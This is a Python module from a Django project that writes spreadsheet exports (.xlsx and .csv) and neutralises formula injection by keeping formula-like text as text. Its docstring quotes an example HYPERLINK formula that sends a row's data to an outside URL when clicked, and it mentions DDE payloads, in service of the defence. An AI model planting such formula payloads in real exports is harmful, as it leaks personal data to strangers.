"""Every spreadsheet the project hands out (.xlsx and .csv) is written here.

Names, positions and report fields are typed by people, some of them hostile. A cell whose
text starts with "=", "+", "-" or "@" (or a tab, a line break, or their full-width forms,
which some Excel input methods accept as formula signs) is a formula to a spreadsheet
program: `=HYPERLINK("https://…?"&B2, "klik")` sends the row to a stranger when clicked,
and a DDE payload runs a program. So no text from the database is ever written as a
formula or as anything but text:

- .xlsx: the cell is a text cell holding exactly what was typed, and formula-like text also
  carries Excel's "quote prefix" flag (what Excel itself stores when one types '=1+1), so it
  stays text even when someone edits the cell. The value is unchanged: an exported roster
  imports back as it was.
- .csv has no types: formula-like text gets a leading apostrophe, the usual defence.

Numbers stay numbers, dates and times are real Excel dates in local time (WIB), and every
response is a private, uncached attachment.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from decimal import Decimal

from django.http import HttpResponse
from django.utils import timezone
from django.utils.http import content_disposition_header
from django.utils.translation import gettext as _
from django.utils.translation import pgettext
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

from core.http import no_store

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"

# The first character that makes a spreadsheet read the cell as a formula (or, for
# tab and line breaks, that some programs skip before looking for one).
FORMULA_TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
# Characters XML 1.0 cannot carry: openpyxl refuses them, so they are dropped.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
# Excel reads these texts as error values; they are text here like any other.
_ERROR_LITERALS = frozenset({"#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"})
_XLSX_MAX_TEXT = 32767
# What openpyxl reads as other than text: a leading "=" (a formula) or "#" (an error value such as #N/A).
_OPENPYXL_SPECIAL = frozenset("=#")

DATE_FORMAT = "dd-mm-yyyy"
DATETIME_FORMAT = "dd-mm-yyyy hh:mm"
TEXT_FORMAT = "@"


def choice_labels(model, field_name: str) -> dict[object, str]:
    """{stored value: its label in the active language} of a field with choices, for an export's rows:
    translated once per response, where `get_FOO_display()` on every row translates (and hashes the
    lazy choices) again each time."""
    return {value: str(label) for value, label in model._meta.get_field(field_name).flatchoices}


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could read `text` as a formula (leading spaces do not protect it)."""
    stripped = text.lstrip(" \u00a0\u3000")
    return bool(stripped) and stripped[0] in FORMULA_TRIGGERS


def clean_text(value: object) -> str:
    return _ILLEGAL.sub("", str(value))


@dataclass(frozen=True)
class Column:
    title: str
    width: float | None = None
    # Cells formatted as Text: identifiers (an 18-digit NIP typed into the column must
    # never become a rounded number); the whole column is, so are rows typed in later.
    text: bool = False


def row_number_column() -> Column:
    """The "No." column. "No." alone is ambiguous to translators: Django's Indonesian catalogue turns
    "No" into "Tidak". The context says it is the row number."""
    return Column(pgettext("row number", "No."), 5)


def downloaded_line() -> list[str]:
    """A preamble line: when the file was downloaded (WIB)."""
    return [_("Diunduh %(when)s WIB") % {"when": timezone.localtime().strftime("%d-%m-%Y %H:%M")}]


@dataclass
class Sheet:
    title: str
    columns: Sequence[Column]
    rows: Iterable[Sequence[object]]
    # Lines above the header (a title, when it was downloaded); the first one is bold.
    preamble: Sequence[Sequence[object]] = field(default_factory=tuple)
    freeze_header: bool = True


# --- .xlsx ---------------------------------------------------------------------------


def _local_naive(value: dt.datetime) -> dt.datetime:
    # Excel has no time zones: the wall-clock time in WIB (the project's TIME_ZONE).
    if timezone.is_aware(value):
        value = timezone.localtime(value)
    return value.replace(tzinfo=None)


def _xlsx_cell(worksheet, value: object, column: Column | None, *, bold: bool = False):
    """What to append for one value: a plain number, or a styled write-only cell."""
    if value is None:
        if not (bold or (column is not None and column.text)):
            return None
        value = ""
    number_format = None
    if isinstance(value, bool):
        cell_value: object = value
    elif isinstance(value, (int, float, Decimal)):
        cell_value = value
    elif isinstance(value, dt.datetime):
        cell_value, number_format = _local_naive(value), DATETIME_FORMAT
    elif isinstance(value, dt.date):
        cell_value, number_format = value, DATE_FORMAT
    else:
        cell_value = clean_text(value)[:_XLSX_MAX_TEXT]
    is_text = isinstance(cell_value, str)
    if column is not None and column.text:
        number_format = TEXT_FORMAT
    if not (number_format or bold) and (
        not is_text or (cell_value[:1] not in _OPENPYXL_SPECIAL and not is_formula_like(cell_value))
    ):
        # A number, or text openpyxl writes as text by itself (it reads only a leading "=" as a
        # formula and "#…" as an error value): appended as it is, without a styled cell per value.
        return cell_value
    cell = WriteOnlyCell(worksheet, value=cell_value)
    if is_text:
        # openpyxl would turn "=…" into a formula and "#N/A" into an error: text stays text.
        cell.data_type = "s"
        if is_formula_like(cell_value):
            cell.quotePrefix = True
    if number_format:
        cell.number_format = number_format
    if bold:
        cell.font = Font(bold=True)
    return cell


def write_xlsx(sheets: Sequence[Sheet]) -> bytes:
    """The workbook's bytes. Rows stream through openpyxl's write-only mode to a temporary
    file, so memory stays flat however many rows the iterables yield."""
    from openpyxl import Workbook
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    for sheet in sheets:
        worksheet = workbook.create_sheet(title=_sheet_title(sheet.title))
        # Column widths and formats, and the frozen header, must precede the first row.
        for index, column in enumerate(sheet.columns, start=1):
            dimension = worksheet.column_dimensions[get_column_letter(index)]
            if column.width:
                dimension.width = column.width
            if column.text:
                dimension.number_format = TEXT_FORMAT
        if sheet.freeze_header:
            worksheet.freeze_panes = f"A{len(sheet.preamble) + 2}"
        for number, line in enumerate(sheet.preamble):
            worksheet.append([_xlsx_cell(worksheet, value, None, bold=number == 0) for value in line])
        worksheet.append([_xlsx_cell(worksheet, column.title, None, bold=True) for column in sheet.columns])
        columns = list(sheet.columns)
        for row in sheet.rows:
            worksheet.append(
                [
                    _xlsx_cell(worksheet, value, columns[index] if index < len(columns) else None)
                    for index, value in enumerate(row)
                ]
            )
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _sheet_title(title: str) -> str:
    # Excel's limits: 31 characters, none of []:*?/\ .
    cleaned = re.sub(r"[\[\]:*?/\\]", "-", clean_text(title)).strip("'") or "Sheet"
    return cleaned[:31]


# --- .csv ----------------------------------------------------------------------------


def _csv_value(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, (bool, int, float, Decimal)):
        return str(value)
    if isinstance(value, dt.datetime):
        return _local_naive(value).isoformat(sep=" ", timespec="minutes")
    if isinstance(value, dt.date):
        return value.isoformat()
    text = clean_text(value)
    return f"'{text}" if is_formula_like(text) else text


def write_csv(columns: Sequence[Column], rows: Iterable[Sequence[object]], *, delimiter: str = ",") -> bytes:
    """UTF-8 with a byte-order mark (without it Excel reads UTF-8 as the local code page)."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow([_csv_value(column.title) for column in columns])
    for row in rows:
        writer.writerow([_csv_value(value) for value in row])
    return out.getvalue().encode("utf-8")


# --- Responses -----------------------------------------------------------------------


def safe_filename(filename: str) -> str:
    """ASCII letters, digits, dot, dash and underscore; anything else becomes a dash."""
    stem, dot, extension = filename.rpartition(".")
    if not dot:
        stem, extension = filename, ""
    stem = re.sub(r"[^A-Za-z0-9_-]+", "-", stem).strip("-.")[:100] or "unduhan"
    extension = re.sub(r"[^A-Za-z0-9]+", "", extension)[:10]
    return f"{stem}.{extension}" if extension else stem


def attachment_response(content: bytes, filename: str, content_type: str) -> HttpResponse:
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = content_disposition_header(True, safe_filename(filename))
    # Rosters and reports name people: no shared cache or browser history may keep a copy.
    no_store(response)
    return response


def xlsx_response(filename: str, *sheets: Sheet) -> HttpResponse:
    return attachment_response(write_xlsx(sheets), filename, XLSX_CONTENT_TYPE)


def csv_response(filename: str, columns: Sequence[Column], rows: Iterable[Sequence[object]]) -> HttpResponse:
    return attachment_response(write_csv(columns, rows), filename, CSV_CONTENT_TYPE)
